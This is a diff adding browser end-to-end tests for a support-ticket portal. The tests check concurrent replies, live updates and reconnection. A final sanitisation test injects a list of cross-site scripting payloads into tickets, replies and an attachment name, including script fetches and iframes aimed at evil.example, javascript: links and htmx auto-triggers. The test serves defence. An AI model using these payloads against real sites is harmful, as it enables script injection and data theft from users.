@@ -1,0 +1,140 @@
+"""Two people on one ticket, a dropped connection, and text that would like to be a program."""
+
+from tests.journeys.come_in import DANA, OSCAR, PRIYA, come_in
+
+
+def file_ticket(page, live, subject: str, body: str = "words") -> str:
+    """File a ticket; its address."""
+    page.goto(f"{live.portal}/tickets/new?form=default")
+    for select in page.query_selector_all("#ticket-form select[required]"):
+        select.select_option(index=1)
+    page.fill("[name=subject]", subject)
+    page.fill("[name=body]", body)
+    page.click("button:has-text('File ticket')")
+    page.wait_for_selector("#conversation article")
+    return page.url
+
+
+def test_two_customers_type_at_once_and_neither_loses_a_word(live_portal, open_browser):
+    dana, oscar = open_browser(), open_browser(width=360, height=740)
+    come_in(dana, live_portal, DANA)
+    come_in(oscar, live_portal, OSCAR)
+    address = file_ticket(dana, live_portal, "Two of us are typing")
+    oscar.goto(address)
+    dana.fill("#body-reply", "Dana is in the middle of")
+    oscar.fill("#body-reply", "Oscar too")
+    dana.focus("#body-reply")
+    oscar.click("button:has-text('Send reply')")
+    dana.wait_for_selector("article:has-text('Oscar too')")
+    assert dana.input_value("#body-reply") == "Dana is in the middle of"
+    assert dana.evaluate("document.activeElement.id") == "body-reply"
+    dana.type("#body-reply", " a sentence", delay=5)
+    dana.click("button:has-text('Send reply')")
+    oscar.wait_for_selector("article:has-text('Dana is in the middle of a sentence')")
+    assert oscar.locator("article").count() == dana.locator("article").count() == 3
+
+
+def test_the_list_is_live_and_marks_what_is_new(live_portal, open_browser):
+    dana, agent = open_browser(), open_browser()
+    come_in(dana, live_portal, DANA)
+    come_in(agent, live_portal, PRIYA)
+    address = file_ticket(dana, live_portal, "Watch this row")
+    number = address.rsplit("/", 1)[1].partition("#")[0]
+    dana.goto(live_portal.portal + "/tickets")
+    assert "New" not in dana.inner_text(f"#ticket-{number}")
+    agent.goto(address)
+    agent.fill("#body-reply", "Here is your answer")
+    agent.click("button:has-text('Send reply')")
+    dana.wait_for_selector(f"#ticket-{number}:has-text('New')")
+    assert "Here is your answer" in dana.inner_text(f"#ticket-{number}")
+
+
+def test_a_page_catches_up_after_its_connection_was_away(live_portal, open_browser):
+    dana, agent = open_browser(), open_browser()
+    come_in(dana, live_portal, DANA)
+    come_in(agent, live_portal, PRIYA)
+    address = file_ticket(dana, live_portal, "Into the tunnel")
+    dana.context.set_offline(True)
+    agent.goto(address)
+    agent.fill("#body-reply", "Said while you were away")
+    agent.click("button:has-text('Send reply')")
+    agent.wait_for_selector("article:has-text('Said while you were away')")
+    assert dana.locator("article:has-text('Said while you were away')").count() == 0
+    dana.context.set_offline(False)
+    dana.wait_for_selector("article:has-text('Said while you were away')", timeout=70_000)
+
+
+PAYLOADS = (
+    "<script>fetch('//evil.example')</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    '"><script src=//evil.example></script>',
+    "'-alert(1)-'",
+    "[link](javascript:alert(1))",
+    "[link](JaVaScRiPt&colon;alert(1))",
+    "[link](data:text/html,<script>alert(1)</script>)",
+    "[link](//evil.example)",
+    "![pixel](https://evil.example/pixel.png)",
+    '<https://evil.example/" onmouseover=alert(1)>',
+    "<iframe src=https://evil.example></iframe>",
+    "<style>@import 'https://evil.example';</style>",
+    "<link rel=stylesheet href=https://evil.example>",
+    "<base href=https://evil.example>",
+    "<form action=https://evil.example><button>",
+    "<math><mi xlink:href=javascript:alert(1)>",
+    "<a href='javas&#99;ript:alert(1)'>x</a>",
+    "<details open ontoggle=alert(1)>",
+    "<div hx-get=/sign-out hx-trigger=load>",
+    "<div data-hx-post=/previews data-hx-trigger=load>",
+    "<div hx-on::load=alert(1)>",
+    "{{7*7}}{% raw %}${7*7}",
+    "<!--><script>alert(1)</script>-->",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "`<script>alert(1)</script>`",
+    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
+    "\u202e\u2066<script>alert(1)</script>",
+    "<p id=conversation>",
+    "javascript:alert(1)",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+)
+
+
+def test_text_never_becomes_a_program(live_portal, open_browser):
+    dana, agent = open_browser(), open_browser()
+    asked, shown = [], []
+    for page, who in ((dana, DANA), (agent, PRIYA)):
+        come_in(page, live_portal, who)
+        page.on("request", lambda request: asked.append(request.url))
+        page.on("dialog", lambda dialog: (shown.append(dialog.message), dialog.dismiss()))
+    address = file_ticket(dana, live_portal, "<script>alert(1)</script> \"'><img src=x onerror=alert(2)>", "\n\n".join(PAYLOADS))
+    name = '"><img src=x onerror=alert(1)>.png'
+    dana.set_input_files("#files-reply", [{"name": name, "mimeType": "image/png", "buffer": b"<script>alert(1)</script>"}])
+    dana.fill("#body-reply", "\n\n".join(reversed(PAYLOADS)))
+    dana.click("button:has-text('Preview')")
+    dana.wait_for_selector("#preview .prose")
+    dana.click("button:has-text('Send reply')")
+    dana.wait_for_selector(".attachments")
+    for page, path in (
+        (dana, "/tickets"),
+        (dana, "/tickets?q=script"),
+        (agent, "/desk?q=script&view=all"),
+        (agent, address),
+        (dana, address),
+    ):
+        page.goto(path if path.startswith("http") else live_portal.portal + path)
+        page.wait_for_timeout(300)
+        page.evaluate(
+            "document.querySelectorAll('article *').forEach(e => e.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})))"
+        )
+    assert shown == []
+    assert [url for url in asked if not url.startswith((live_portal.portal, live_portal.outside, "data:"))] == []
+    assert (
+        dana.locator("article .prose").evaluate_all(
+            "all => all.filter(e => e.querySelector('script, img, iframe, style, form, svg, [onerror]')).length"
+        )
+        == 0
+    )
+    hrefs = dana.locator("article .prose a[href]").evaluate_all("all => all.map(a => a.getAttribute('href'))")
+    assert [href for href in hrefs if not href.startswith(("http:", "https:", "mailto:"))] == []
+    assert dana.locator("#conversation").count() == 1
